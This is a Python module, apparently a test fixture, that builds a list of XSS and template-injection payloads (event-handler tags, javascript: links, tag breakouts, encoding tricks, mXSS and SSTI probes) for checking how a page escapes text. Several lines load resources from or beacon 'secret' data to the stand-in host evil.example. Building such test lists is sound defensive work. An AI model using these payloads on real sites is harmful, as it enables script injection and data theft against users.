# SPDX-License-Identifier: Apache-2.0
"""Texts that would do something on a page which takes them for markup."""

__all__ = ["PAYLOADS"]

_TAGS = ("img", "svg", "video", "audio", "body", "iframe", "input", "details", "marquee", "object")
_EVENTS = ("onerror", "onload", "onfocus autofocus", "ontoggle open", "onmouseover", "onstart")
_WITH_EVENTS = [f"<{tag} src=x {event}=alert(1)>" for tag in _TAGS for event in _EVENTS]
_SCHEMES = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)")
_LINKS = [
    markup.format(scheme)
    for scheme in (
        *_SCHEMES,
        "http://evil.example/x?q=1",
        "//evil.example/x",
        "java&#9;script:alert(1)",
    )
    for markup in ('<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>')
]
PAYLOADS = (
    *_WITH_EVENTS,
    *_LINKS,
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1) y=",
    "` onmouseover=`alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></td></table><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<div style="background:url(//evil.example/x)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="">',
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=//evil.example/x.svg#x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<embed src=//evil.example/x.swf>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&",
    "&amp;lt;",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{{ config.items() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "http://evil.example/beacon?q=secret",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<a href='//evil.example' target=_blank>x</a>",
    "<button popovertarget=x onclick=alert(1)>x</button><div popover id=x>x</div>",
    "<dialog open>x</dialog>",
    "<select><option>x</select>",
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x>",
    "<video poster=//evil.example/x>",
    "<q>x</q><b>x</b>",
    "</div></main></body></html>",
    "$_x^{$",
)
"""Each by itself, one line, without marks that a page shows in another way."""
